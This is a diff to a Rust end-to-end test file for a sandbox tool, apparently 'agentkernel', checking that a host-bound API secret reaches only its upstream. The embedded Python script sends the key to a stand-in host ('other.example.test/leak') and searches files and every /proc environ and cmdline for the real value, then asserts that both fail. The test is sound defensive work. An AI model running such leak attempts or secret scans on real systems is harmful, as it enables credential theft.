@@ -394,7 +394,7 @@ print("proxy visible" if any(needle in c for c in cmdlines) else "proxy not visi
     /// else: not the sandbox (env, files, /proc), not a spoofed Host, not a
     /// redirect's target, not another host through a placeholder.
     #[test]
-    fn a_bound_secret_reaches_only_its_host_and_never_the_sandbox() {
+    fn a_bound_secret_skips_spoofed_hosts_redirects_and_other_hosts() {
         const VALUE: &str = "sk-e2e-4f1d2c3b5a697887";
         let env = TestEnv::new();
         let upstream = start_upstream();
@@ -522,6 +522,108 @@ except urllib.error.HTTPError as e:
         }
     }
 
+    /// `-S` end to end: the upstream gets the real value in the bound
+    /// headers; the sandbox holds only placeholders (its variable, and the
+    /// `--secret-file` with `--placeholder-secrets`); the placeholder aimed
+    /// at another host is refused and that host never sees it; nothing the
+    /// sandbox can read — files from `/`, every process's environment and
+    /// command line — holds the value.
+    #[test]
+    fn a_bound_secret_reaches_its_host_and_never_the_sandbox() {
+        let env = TestEnv::new();
+        let upstream = start_upstream();
+        // One key from `-S`, one from `[secrets]` (upstream's template form).
+        let config = upstream.config(
+            &env,
+            &format!("[secrets]\nHDR_KEY = {{ hosts = [\"{API}\"], header = \"x-api-key\" }}\n"),
+        );
+        let (head, tail) = ("sk-e2e-real-", "6b1f9a");
+        let value = format!("{head}{tail}");
+        let out = env
+            .cmd()
+            .args(["secret", "set", "API_KEY"])
+            .write_stdin(format!("{value}\n"))
+            .output()
+            .unwrap();
+        assert_code(&out, 0);
+        // The script names the value only in two halves, so its own command
+        // line cannot be what the scan finds.
+        let script = format!(
+            r#"
+import os, urllib.request
+key = os.environ["API_KEY"]
+print("env", key.startswith("AGENTKERNEL_PLACEHOLDER_"), len(key))
+print("file", open(os.environ["AGENTKERNEL_SECRETS_PATH"] + "/API_KEY").read() == key)
+req = urllib.request.Request("https://{API}/bound", headers={{"Authorization": "Bearer " + key}})
+print("bound", urllib.request.urlopen(req, timeout=10).read())
+try:
+    urllib.request.urlopen("https://other.example.test/leak?k=" + key, timeout=10)
+    print("leak SENT")
+except Exception as e:
+    print("leak refused")
+needle = b"{head}" + b"{tail}"
+found = []
+for top in os.listdir("/"):
+    if top in ("proc", "sys", "dev"):
+        continue
+    for d, _, files in os.walk("/" + top):
+        for f in files:
+            p = os.path.join(d, f)
+            try:
+                if os.path.isfile(p) and not os.path.islink(p) and needle in open(p, "rb").read():
+                    found.append(p)
+            except OSError:
+                pass
+for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
+    for what in ("environ", "cmdline"):
+        try:
+            if needle in open("/proc/%s/%s" % (pid, what), "rb").read():
+                found.append("/proc/%s/%s" % (pid, what))
+        except OSError:
+            pass
+print("found", found)
+"#
+        );
+        // HDR_KEY's value comes from agentkernel's own environment.
+        let out = env
+            .cmd()
+            .env("HDR_KEY", "hdr-e2e-value-3c")
+            .args([
+                "run",
+                "-c",
+                config.to_str().unwrap(),
+                "--image",
+                PYTHON,
+                "-S",
+                &format!("API_KEY:{API}"),
+                "--secret-file",
+                "API_KEY",
+                "--placeholder-secrets",
+                "--",
+                "python3",
+                "-c",
+                &script,
+            ])
+            .output()
+            .unwrap();
+        assert_code(&out, 0);
+        let text = stdout(&out);
+        assert!(text.contains("env True 56"), "{text}");
+        assert!(text.contains("file True"), "{text}");
+        assert!(text.contains("bound b'ok\\n'"), "{text}");
+        assert!(text.contains("leak refused"), "{text}");
+        assert!(text.contains("found []"), "{text}");
+        let seen = upstream.seen().to_ascii_lowercase();
+        assert!(
+            seen.contains(&format!("authorization: bearer {value}")),
+            "{seen}"
+        );
+        assert!(seen.contains("x-api-key: hdr-e2e-value-3c"), "{seen}");
+        assert!(!seen.contains("/leak"), "{seen}");
+        assert!(!seen.contains("agentkernel_placeholder_"), "{seen}");
+        assert!(wait_until(Duration::from_secs(5), || proxies_of(&env).is_empty()));
+    }
+
     #[test]
     fn bad_egress_options_are_one_line_errors() {
         let env = TestEnv::new();
@@ -583,6 +685,7 @@ mod engine_only {
         for args in [
             vec!["--allow-host", "example.com"],
             vec!["--egress-log", "x.jsonl"],
+            vec!["-S", "K=v:example.com"],
         ] {
             let out = env.run(&[&["run"][..], &args, &["--image", BUSYBOX, "true"]].concat());
             let line = assert_one_line_error(&out);
